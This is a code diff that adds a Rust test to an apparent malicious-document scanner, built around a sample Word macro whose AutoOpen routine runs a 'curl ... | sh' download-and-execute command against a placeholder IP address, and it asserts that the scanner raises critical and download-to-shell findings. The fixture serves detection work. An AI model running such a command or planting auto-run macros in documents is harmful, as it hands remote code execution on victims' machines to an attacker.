@@ -149,6 +149,20 @@ fn instructions_are_found_in_documents_and_pictures() {
 }
 
 #[test]
+fn the_code_of_a_macro_is_read() {
+    let code: &[u8] =
+        b"Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nShell \"curl -s http://203.0.113.7/a | sh\"\r\nEnd Sub\r\n";
+    let packed: Vec<u8> = code.chunks(8).flat_map(|letters| [b"\0", letters].concat()).collect();
+    let header = (0xb000_u16 | (packed.len() as u16 - 1)).to_le_bytes();
+    let project = [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x01".as_slice(), &header, &packed].concat();
+    let report = scan("letter.docm", zip(&[("[Content_Types].xml", b"<Types/>"), ("word/vbaProject.bin", &project)]));
+    let severity =
+        |rule: &str| report.findings.iter().find(|finding| finding.rule_id == rule).map(|finding| finding.severity);
+    assert_eq!(severity("office-active-content"), Some(Severity::Critical), "{:?}", report.findings);
+    assert!(severity("download-to-shell").is_some());
+}
+
+#[test]
 fn ordinary_containers_are_safe() {
     let part = b"<w:document><w:p><w:t>A letter to a friend.</w:t></w:p></w:document>";
     let rows = [
